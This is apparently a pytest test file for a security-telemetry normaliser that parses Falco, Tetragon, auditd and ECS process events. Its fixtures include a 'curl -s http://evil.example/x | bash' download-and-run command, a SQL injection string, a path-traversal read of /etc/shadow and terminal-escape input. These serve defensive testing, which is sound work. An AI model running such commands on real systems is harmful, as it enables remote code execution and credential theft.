"""Normalisation of every supported process-event shape, and hostile input."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.common.v1.common_pb2 import KeyValue
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord

from otlp_receiver.normalize import Normalizer
from otlp_receiver.normalize.auditd import parse_line
from otlp_receiver.normalize.normalizer import KINDS
from otlp_receiver.normalize.values import MAX_ARGS, MAX_COMMAND_LINE
from testing.otlp_values import any_value

TESTDATA = Path(__file__).parent / "testdata"


def record(body: Any = None, event_name: str = "", **attributes: Any) -> LogRecord:
    result = LogRecord(time_unix_nano=1_795_528_930_000_000_000, event_name=event_name)
    if body is not None:
        result.body.CopyFrom(any_value(body))
    result.attributes.extend(KeyValue(key=k.replace("__", "."), value=any_value(v)) for k, v in attributes.items())
    return result


def agent_record(name: str, line: str, pid: int, ppid: int, parent: str = "", **extra: Any) -> LogRecord:
    attrs = {"process.executable.name": name, "process.command_line": line, "process.command_args": line.split(),
             "process.pid": pid, "process.parent_pid": ppid, "process.user.id": 33, **extra}
    if parent:
        attrs["process.parent.executable.name"] = parent
    result = record(line, event_name="process.exec")
    result.attributes.extend(KeyValue(key=k, value=any_value(v)) for k, v in attrs.items())
    return result


AGENT = {"service.name": "procsight-agent", "host.name": "web-1"}


def test_our_agent_record() -> None:
    normalized = Normalizer().normalize("default", AGENT, agent_record("nginx", "nginx -g daemon off;", 10, 1,
                                                                         parent="systemd"))
    assert normalized.kind == "agent"
    event = normalized.event
    assert event.executable_name == "nginx" and event.command_args == ("nginx", "-g", "daemon", "off;")
    assert event.host == "web-1" and event.user_id == 33 and event.parent_name == "systemd"
    assert event.timestamp == pytest.approx(1_795_528_930.0)


def test_semconv_network_event_from_another_sdk() -> None:
    rec = record("connect", event_name="network.connection", process__executable__name="curl",
                 process__command_line="curl http://x", destination__address="203.0.113.9", destination__port=443,
                 network__transport="tcp")
    normalized = Normalizer().normalize("default", {"host.name": "h"}, rec)
    assert normalized.kind == "semconv"
    assert normalized.event.event_name == "network.connection"
    assert normalized.event.remote_address == "203.0.113.9" and normalized.event.remote_port == 443


def test_falco_json_lines_as_filelog_ships_them() -> None:
    normalizer = Normalizer()
    lines = (TESTDATA / "falco.jsonl").read_text().splitlines()
    first, second = (normalizer.normalize("default", {}, record(line, log__file__name="events.txt")) for line in lines)
    assert first.kind == "falco"
    event = first.event
    assert (event.executable_name, event.command_line, event.parent_name) == ("sh", "sh -c id", "nginx")
    assert event.user_id == 33 and event.pid == 4242 and event.parent_pid == 4200 and event.host == "web-1"
    assert event.executable_path == "/usr/bin/dash" and event.container_id == ""  # "host" is no container
    assert event.ancestors == ("nginx", "systemd")  # Falco's own proc.aname[]
    assert second.event.container_id == "3ad7b26ded6d"


def test_falco_structured_body() -> None:
    document = json.loads((TESTDATA / "falco.jsonl").read_text().splitlines()[0])
    normalized = Normalizer().normalize("default", {}, record(document))
    assert normalized.kind == "falco" and normalized.event.command_line == "sh -c id"


def test_tetragon_process_exec() -> None:
    line = (TESTDATA / "tetragon.json").read_text().strip()
    normalized = Normalizer().normalize("default", {}, record(line))
    assert normalized.kind == "tetragon"
    event = normalized.event
    assert event.executable_name == "miner" and event.executable_path == "/tmp/.x/miner"
    assert event.command_args[:2] == ("/tmp/.x/miner", "--pool")
    assert event.parent_name == "bash" and event.ancestors == ("bash", "nginx")
    assert event.user_id == 0 and event.working_directory == "/tmp" and event.container_id == "3ad7b26ded6d"
    assert event.host == "kind-worker"


def test_tetragon_exit_events_are_not_exec() -> None:
    exit_event = json.dumps({"process_exit": {"process": {"binary": "/bin/ls"}}, "node_name": "n"})
    assert Normalizer().normalize("default", {}, record(exit_event)).kind == "unrecognised"


def test_auditd_syscall_and_execve_with_hex_argv() -> None:
    normalizer = Normalizer()
    results = [normalizer.normalize("default", {"host.name": "web-1"}, record(line))
               for line in (TESTDATA / "audit.log").read_text().splitlines()]
    kinds = [r.kind for r in results]
    assert kinds == ["auditd_partial", "auditd", "auditd_partial", "auditd_partial", "auditd_partial",
                     "auditd_partial", "auditd_partial", "auditd"]
    event = results[1].event
    assert event.command_args == ("bash", "-c", "curl -s http://evil.example/x | bash")
    assert event.executable_path == "/usr/bin/bash" and event.user_id == 0 and event.parent_pid == 4242
    assert event.timestamp == pytest.approx(1795528933.512)
    split_arg = results[7].event  # EXECVE first, then SYSCALL; a1 split into a1[0], a1[1]
    assert split_arg.command_args == ("psql", "--command=select 1")
    assert split_arg.host == "web-1"


def test_auditd_parts_in_different_batches_and_hosts_do_not_mix() -> None:
    normalizer = Normalizer()
    syscall, execve = (TESTDATA / "audit.log").read_text().splitlines()[:2]
    assert normalizer.normalize("default", {"host.name": "a"}, record(syscall)).kind == "auditd_partial"
    assert normalizer.normalize("default", {"host.name": "b"}, record(execve)).kind == "auditd_partial"
    assert normalizer.normalize("other-tenant", {"host.name": "a"}, record(execve)).kind == "auditd_partial"
    assert normalizer.normalize("default", {"host.name": "a"}, record(execve)).kind == "auditd"


def test_ecs_flat_attributes_and_nested_json_body() -> None:
    flat = record("ecs", process__name="python3", process__args=["python3", "app.py"],
                  process__parent__name="gunicorn", process__pid=77, process__parent__pid=70, user__id="1001")
    normalized = Normalizer().normalize("default", {"host.name": "app-1"}, flat)
    assert normalized.kind == "ecs"
    assert normalized.event.command_line == "python3 app.py" and normalized.event.parent_name == "gunicorn"
    assert normalized.event.user_id == 1001
    nested = {"@timestamp": "2026-11-23T14:00:00Z", "event": {"category": ["process"], "type": ["start"]},
              "process": {"name": "sh", "args": ["sh", "-c", "whoami"], "executable": "/bin/sh",
                          "parent": {"name": "php-fpm", "pid": 9}, "pid": 10},
              "host": {"hostname": "php-1"}}
    normalized = Normalizer().normalize("default", {}, record(json.dumps(nested)))
    assert normalized.kind == "ecs"
    assert normalized.event.executable_path == "/bin/sh" and normalized.event.parent_name == "php-fpm"
    assert normalized.event.host == "php-1"


def test_other_records_are_unrecognised_not_errors() -> None:
    normalizer = Normalizer()
    for body in ("GET /index.html 200", '{"level": "info", "msg": "started"}', "", "[1,2,3]", "{broken json"):
        assert normalizer.normalize("default", {}, record(body)).kind == "unrecognised"
    assert normalizer.normalize("default", {}, LogRecord()).kind == "unrecognised"
    # Process keys without what scoring needs are invalid, not silently dropped.
    assert normalizer.normalize("default", {}, record("x", process__pid=5, process__command_line="")).kind == "invalid"


# -- hostile input ------------------------------------------------------------------------------------


def test_huge_argv_is_bounded_and_flagged() -> None:
    args = ["x" * 100] * 10_000
    rec = agent_record("python3", " ".join(args), 1, 0)
    rec.attributes[2].value.CopyFrom(any_value(args))  # process.command_args
    event = Normalizer().normalize("default", AGENT, rec).event
    assert len(event.command_line) == MAX_COMMAND_LINE
    assert len(event.command_args) <= MAX_ARGS and sum(map(len, event.command_args)) <= MAX_COMMAND_LINE
    assert event.command_args_truncated


@pytest.mark.parametrize("line", [
    "sh -c \"'; DROP TABLE security_events; --\"",
    "cat ../../../../etc/shadow",
    "echo \x00\x01\x1b[31mred\x7f\ud7ff",
    "\u202e\u2066evil\u2069",
])
def test_hostile_strings_are_carried_verbatim(line: str) -> None:
    event = Normalizer().normalize("default", AGENT, agent_record("sh", line, 1, 0)).event
    assert event.command_line == line


def test_random_garbage_never_raises() -> None:
    rng = random.Random(1234)
    normalizer = Normalizer()
    alphabet = 'type=SYSCALL EXECVE msg=audit(1.2:3): a0=41 argc=9 {}[]":,\x00\x1b' + "abc0123"
    for _ in range(3000):
        body = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 120)))
        if rng.random() < 0.3:
            body = "{" + body
        result = normalizer.normalize("default", {"host.name": "fuzz"}, record(body))
        assert result.kind in KINDS
    for _ in range(500):
        document = {rng.choice(["output_fields", "process_exec", "process", "node_name", "proc.name"]):
                    rng.choice([None, 1, "x", [], {"proc.name": 5}, {"process": "x"}, {"binary": None}])
                    for _ in range(3)}
        normalizer.normalize("default", {}, record(json.dumps(document)))
        normalizer.normalize("default", {}, record(document))


def test_audit_line_parser_rejects_non_audit_text() -> None:
    assert parse_line("hello world") is None
    assert parse_line("type=SYSCALL msg=audit(1.5:9): pid=1")[1:4] == ("SYSCALL", "9", 1.5)


def test_falco_parsed_into_attributes_by_a_json_parser_operator() -> None:
    document = json.loads((TESTDATA / "falco.jsonl").read_text().splitlines()[0])
    rec = record("raw line kept in the body")
    rec.attributes.extend(KeyValue(key=k, value=any_value(v)) for k, v in document.items())
    normalized = Normalizer().normalize("default", {}, rec)
    assert normalized.kind == "falco" and normalized.event.parent_name == "nginx"
